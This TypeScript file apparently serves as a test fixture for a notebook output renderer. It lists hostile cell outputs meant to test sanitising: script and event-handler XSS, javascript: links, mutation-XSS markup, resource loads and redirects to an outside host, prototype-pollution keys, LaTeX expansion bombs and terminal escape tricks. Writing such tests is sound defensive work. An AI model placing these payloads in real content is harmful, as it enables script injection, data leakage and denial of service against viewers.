/**
 * What a cell may show to hurt whoever looks at it: each is a bundle as a hostile client would write it, aimed at `out`.
 * `owned()` is what runs where one of them gets through.
 */
const RUN = "top.owned=1;self.owned=1";

export function hostileOutputs(out: string): readonly (readonly [name: string, bundle: object])[] {
  const at = (name: string): string => `http://${out}/${encodeURIComponent(name)}`;
  const html = (name: string, markup: string) => [name, { "text/html": markup }] as const;
  const svg = (name: string, inner: string) =>
    [
      name,
      {
        "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">${inner}</svg>`,
      },
    ] as const;
  const text = (name: string, markdown: string) => [name, { "text/markdown": markdown }] as const;
  const tag = `<img src="${at("tag")}" onerror="${RUN}"><script>${RUN}</script>`;
  return [
    html("html script", `<script>${RUN}</script><script src="${at("html script")}"></script>`),
    html("html handlers", `<img src="x" onerror="${RUN}"><details open ontoggle="${RUN}"><svg onload="${RUN}">`),
    html("html frame", `<iframe src="${at("html frame")}"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe><object data="${at("html frame")}"></object><embed src="${at("html frame")}">`),
    html("html picture", `<img src="${at("html picture")}"><video src="${at("html picture")}" poster="${at("html picture")}"></video><picture><source srcset="${at("html picture")}"></picture>`),
    html("html refresh", `<meta http-equiv="refresh" content="0;url=${at("html refresh")}">`),
    html("html styles", `<style>@import url(${at("html styles")});body{background:url(${at("html styles")})}@font-face{font-family:x;src:url(${at("html styles")})}*{font-family:x}</style><p style="background:url(${at("html styles")})">x</p>`),
    html("html styles for the page", `</style></iframe><style>body,.notebook{display:none!important}</style>`),
    html("html links ahead", `<link rel="stylesheet" href="${at("html links ahead")}"><link rel="prefetch" href="${at("html links ahead")}"><link rel="preconnect" href="http://${out}/"><link rel="dns-prefetch" href="http://${out}/">`),
    html("html base and form", `<base href="http://${out}/"><form action="${at("html form")}"><input name="a" autofocus onfocus="${RUN}"></form>`),
    html("html that mutates", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`),
    svg("svg script", `<script>${RUN}</script><script href="${at("svg script")}"/>`),
    svg("svg foreign object", `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${at("svg foreign object")}" onerror="${RUN}"/><iframe src="${at("svg foreign object")}"/></body></foreignObject>`),
    svg("svg picture", `<image href="${at("svg picture")}" width="9" height="9"/><image xlink:href="${at("svg picture")}"/><feImage href="${at("svg picture")}"/>`),
    svg("svg use", `<use href="${at("svg use")}#a"/><use xlink:href="${at("svg use")}#a"/>`),
    svg("svg styles", `<style>@import url(${at("svg styles")});rect{fill:url(${at("svg styles")}#a)}</style><rect width="9" height="9" style="mask:url(${at("svg styles")}#m);filter:url(${at("svg styles")}#f)"/>`),
    svg("svg animation", `<a href="#"><set attributeName="href" to="javascript:${RUN}"/><text>x</text></a><animate attributeName="onload" values="${RUN}"/>`),
    ["svg as a png", { "image/png": btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`) }],
    text("markdown links", `[a](javascript:${RUN}) [b](data:text/html,<script>${RUN}</script>) [c](vbscript:x) <javascript:${RUN}>\n\n[d]: javascript:${RUN}\n[d]`),
    text("markdown picture", `![a](${at("markdown picture")}) ![b](http://${out}/b.svg "x\\" onerror=\\"${RUN}")`),
    text("markdown tags", `${tag}\n\n<iframe src="${at("markdown tags")}"></iframe>\n\n<style>body{display:none}</style>`),
    text("latex links", `$\\href{javascript:${RUN}}{a}$ $\\url{javascript:${RUN}}$ $\\includegraphics{${at("latex links")}}$ $\\htmlData{onclick=1}{x}$ $\\htmlStyle{position:fixed;inset:0}{x}$`),
    text("latex bombs", `$\\def\\a{\\b\\b\\b\\b\\b\\b\\b\\b}\\def\\b{\\c\\c\\c\\c\\c\\c\\c\\c}\\def\\c{\\d\\d\\d\\d\\d\\d\\d\\d}\\def\\d{xxxxxxxx}\\a\\a\\a\\a$ $${"{".repeat(4000)}$ $\\rule{99999em}{99999em}$ $\\def\\x{\\x\\x}\\x$`),
    text("many formulas", "$x^2$ ".repeat(9_000)),
    ["json keys", { "application/json": JSON.parse(`{"__proto__":{"owned":1},"constructor":{"prototype":{"owned":1}},${JSON.stringify(tag)}:${JSON.stringify(tag)}}`) as object }],
    ["table", { "application/vnd.ensemble.table+json": { columns: [{ name: tag, type: "text" }, { name: "__proto__", type: tag }], head: [[tag, { [tag]: tag }], [[tag], null]], rows: 1e300 } }],
    ["matrix", { "application/vnd.ensemble.matrix+json": { labels: [tag, "b"], counts: [[1, tag], [2, 3]] } }],
    ["tensor", { "application/vnd.ensemble.tensor+json": { shape: [tag, 1e300], dtype: tag, values: [tag, { [tag]: tag }] } }],
    ["error", { "application/vnd.ensemble.error+json": { name: tag, message: `${tag}\n\`${tag}\``, line: 1e300, column: -1, stack: [{ cell: tag, line: 1, column: 1 }, { cell: `"] , body`, line: 1, column: 1 }] } }],
    ["console", { "application/vnd.ensemble.console+json": { level: tag, text: `\u001b]8;;javascript:${RUN}\u0007x\u001b[2J\u202e${tag}` } }],
    ["plain", { "text/plain": tag }],
  ]; // prettier-ignore
}
